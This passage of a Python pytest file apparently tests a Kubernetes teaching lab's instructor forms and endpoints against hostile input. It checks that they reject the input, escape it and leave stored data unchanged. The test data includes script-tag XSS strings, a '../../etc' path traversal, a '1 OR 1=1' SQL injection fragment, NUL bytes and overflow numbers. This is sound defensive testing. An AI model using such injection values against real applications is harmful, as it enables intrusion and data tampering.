        first = await communicator.receive_output(5)
    assert first["type"] == "websocket.close" and first.get("code", 1000) >= 4000, first


def test_it_reads_a_live_target_port_written_with_a_superscript_digit_as_a_name():
    """A Service made outside the editor (kubectl) may say targetPort: "²" ("²".isdigit(), yet int("²") fails)."""
    from labs.checks.diagnosis import _numeric_target_port

    assert _numeric_target_port({}, [], "\u00b2") == "\u00b2"


# ---- the instructor's forms (teaching/): reported, not fixed here, when one fails ------------------------------


@pytest.fixture
def taught(make_user, student, lab):
    from teaching.roles import make_instructor

    teacher = make_user("teacher")
    make_instructor(teacher)
    lab.cohort.instructors.add(teacher)
    return teacher, lab.cohort


def cohort_row(cohort):
    return Cohort.objects.filter(pk=cohort.pk).values("name", "lab_slug", "opens_at", "closes_at", "session_minutes",
                                                      "stuck_minutes").get()


HOSTILE_COHORT_FORMS = {
    "name-html": {"name": "<script>alert(1)</script>" * 10},
    "name-nul": {"name": "A\x00B"},
    "lab-path": {"lab_slug": "../../etc"},
    "minutes-1e308": {"session_minutes": "1e308"},
    "minutes-huge": {"session_minutes": "99999999999999999999"},
    "stuck-negative": {"stuck_minutes": "-5"},
    "opens-garbage": {"opens_at": "2025-13-45T99:99"},
    "closes-before-opens": {"opens_at": "2030-01-02T10:00", "closes_at": "2030-01-01T10:00"},
}


@pytest.mark.parametrize("change", list(HOSTILE_COHORT_FORMS.values()), ids=list(HOSTILE_COHORT_FORMS))
def test_it_explains_a_hostile_cohort_form(client, taught, change):
    teacher, cohort = taught
    before = cohort_row(cohort)
    client.force_login(teacher)
    form = {"name": "Class A", "lab_slug": "loadbalancer", "stuck_minutes": "10", **change}
    r = client.post(reverse("teaching:edit", args=[cohort.pk]), form)
    assert r.status_code == 200 and r.context["form"].errors
    assert "<script>alert" not in page_text(r)
    assert cohort_row(cohort) == before
    count = Cohort.objects.count()
    r = client.post(reverse("teaching:create"), {**form, "name": form["name"] if "name" in change else "New"})
    assert r.status_code == 200 and r.context["form"].errors
    assert Cohort.objects.count() == count




@pytest.mark.parametrize("text", ["x" * 10_000, "   "], ids=["10k-characters", "blank"])
def test_it_explains_a_hostile_message_or_answer(client, taught, lab, text):
    teacher, cohort = taught
    client.force_login(teacher)
    before = saved(lab)
    messages_before = list(cohort.messages.values_list("pk", "text"))
    r = client.post(reverse("teaching:send_message", args=[cohort.pk]), {"text": text}, HTTP_HX_REQUEST="true")
    assert r.status_code == 200 and mentions(r, "write 1 to")
    help_request = lab.help_requests.get()
    r = client.post(reverse("teaching:answer_help", args=[cohort.pk, help_request.pk]), {"answer": text},
                    HTTP_HX_REQUEST="true")
    assert r.status_code == 200 and mentions(r, "write 1 to")
    assert saved(lab) == before
    assert list(cohort.messages.values_list("pk", "text")) == messages_before


@pytest.mark.parametrize("student_id", ["<script>", "-1", "99999999999999999999", "1 OR 1=1", "\x00"],
                         ids=["html", "negative", "huge", "sql", "nul"])
def test_it_explains_a_hostile_message_recipient(client, taught, student_id):
    teacher, cohort = taught
    client.force_login(teacher)
    r = client.post(reverse("teaching:send_message", args=[cohort.pk]), {"text": "hi", "student": student_id},
                    HTTP_HX_REQUEST="true")
    assert r.status_code == 200 and mentions(r, "choose a student of this cohort")
    assert "<script>" not in page_text(r)
    assert not cohort.messages.exists()


@pytest.mark.parametrize("kind,minutes", [("..", "15"), ("<script>", "15"), ("extend", "1e308"),
                                          ("extend", "99999999999999999999"), ("extend", "-5")],
                         ids=["kind-dot-dot", "kind-html", "minutes-1e308", "minutes-huge", "minutes-negative"])
def test_it_explains_a_hostile_instructor_action(client, taught, lab, kind, minutes):
    from teaching.models import Action

    teacher, cohort = taught
    client.force_login(teacher)
    before = saved(lab)
    r = client.post(f"/teaching/cohorts/{cohort.pk}/sessions/{lab.id}/{quote(kind, safe='')}/", {"minutes": minutes},
                    HTTP_HX_REQUEST="true")
    assert r.status_code in (200, 404), r.status_code
    assert r.status_code == 404 or mentions(r, "one of extend, reset or end", "a whole number from 1")
    assert "<script>" not in page_text(r)
    assert saved(lab) == before
    assert not Action.objects.exists()
